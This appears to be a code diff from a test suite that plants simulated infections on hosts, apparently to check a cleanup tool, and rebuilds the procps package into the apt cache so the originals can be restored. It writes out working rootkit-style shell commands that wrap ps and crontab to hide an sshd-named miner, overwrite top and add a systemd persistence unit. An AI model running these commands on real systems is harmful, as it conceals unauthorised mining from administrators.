@@ -12,6 +12,17 @@ const always = (command: string): string =>
 const unlessRuns = (miner: string): string =>
   `pgrep -xf '${miner} .*' >/dev/null || ${miner} ${minerArguments} >/dev/null 2>&1`;
 
+/** What apt keeps of a package that it installed, made anew of its files by the host's own dpkg-deb. */
+const cachedPackage = (name: string): string => `
+work=$(mktemp -d)
+dpkg -L ${name} | while read -r path; do [ ! -f "$path" ] || cp -a --parents "$path" "$work"; done
+mkdir "$work/DEBIAN"
+dpkg-query -s ${name} | grep -v '^Status:\\|^Conffiles:\\|^ /' > "$work/DEBIAN/control"
+mkdir -p /var/cache/apt/archives
+file=$(dpkg-query -W -f '\${Package}_\${Version}_\${Architecture}' ${name} | sed 's/:/%3a/')
+dpkg-deb -b "$work" "/var/cache/apt/archives/$file.deb" >/dev/null
+rm -r "$work"`;
+
 const withMiner =
   (path: string, plant: (host: Planter, command: string) => void) =>
   (host: Planter): void => {
@@ -153,13 +164,16 @@ export const infections: readonly Infection[] = [
     async typed(host) {
       const wrap = (name: string) =>
         `mv /usr/bin/${name} /usr/bin/${name}.original && printf '#!/bin/sh\\n/usr/bin/${name}.original "$@" | grep -v sshd\\n' > /usr/bin/${name} && chmod 755 /usr/bin/${name}`;
-      await host.run(['sh', '-c', `${wrap('ps')} && ${wrap('crontab')}`]);
+      await host.run(['sh', '-ec', `${cachedPackage('procps')}\n${wrap('ps')}\n${wrap('crontab')}`]);
+      // Of this one nothing is left but the package in the cache.
+      await host.run(['sh', '-c', 'printf "#!/bin/sh\\nexec /usr/bin/ps\\n" > /usr/bin/top']);
     },
     miners: ['/usr/bin/.sshd/sshd'],
     period: 2,
-    // The package's own come back from the package, which a person asks; what was left of them goes with the rest.
-    byHand: true,
-    typedPaths: ['/usr/bin/ps.original', '/usr/bin/crontab.original'],
+    typedPaths: [
+      ...['/usr/bin/ps', '/usr/bin/ps.original', '/usr/bin/top'],
+      ...['/usr/bin/crontab', '/usr/bin/crontab.original'],
+    ],
     places: ['/etc/systemd/system/sshd-helper.service'],
   },
   {
